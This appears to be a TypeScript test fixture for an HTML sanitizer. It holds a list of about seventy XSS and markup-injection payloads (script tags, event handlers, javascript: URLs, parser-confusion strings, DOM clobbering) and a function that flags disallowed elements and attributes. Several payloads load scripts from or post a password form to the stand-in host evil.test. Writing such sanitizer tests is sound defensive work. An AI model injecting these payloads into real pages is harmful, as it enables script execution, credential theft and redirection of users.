import { NOTICE_HTML, NOTICE_LINK } from '../../src/contract/support/notice-html';

/**
 * HTML that is harmful if shown as it is: scripts in every known form, and markup that hijacks the page, its form or
 * its links.
 */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=data:,alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=x:x onerror=alert`1`>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)><p onfocus=alert(1) autofocus tabindex=1>x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<style>@import "//evil.test/x.css"; *{display:none}</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href=//evil.test/>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe onload=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#x01;javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.test/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/&#9;/evil.test">x</a>',
  '<a href="https://a.test" onclick=alert(1) target=_top ping=//evil.test>x</a>',
  '<form action=//evil.test><input name=password type=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<select onchange=alert(1)><option>x</select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video poster=javascript:alert(1)//></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action=javascript:alert(1) type=image>',
  '<p id=root name=getElementById>x</p>',
  '<a id=portal href="https://a.test" name=location>x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table background="javascript:alert(1)"><tr><td background="//evil.test">x</table>',
  '<p slot=x is=x-y part=z>x</p>',
];

type RenderedElement = { localName: string; attributes: [name: string, value: string][] };
/** Attributes that the page itself adds to external links; only these values are ours. */
const OURS: Record<string, string> = { target: '_blank', rel: 'noopener noreferrer' };

/** Returns the forbidden parts of an element of a notice; empty if it is harmless. */
export function harmIn({ localName, attributes }: RenderedElement): string[] {
  if (!Object.hasOwn(NOTICE_HTML, localName)) return [`<${localName}>`];
  return attributes.flatMap(([name, value]) => {
    const isFit = localName === 'a' && ((name === 'href' && NOTICE_LINK.test(value)) || OURS[name] === value);
    return isFit ? [] : [`${localName} ${name}=${value}`];
  });
}
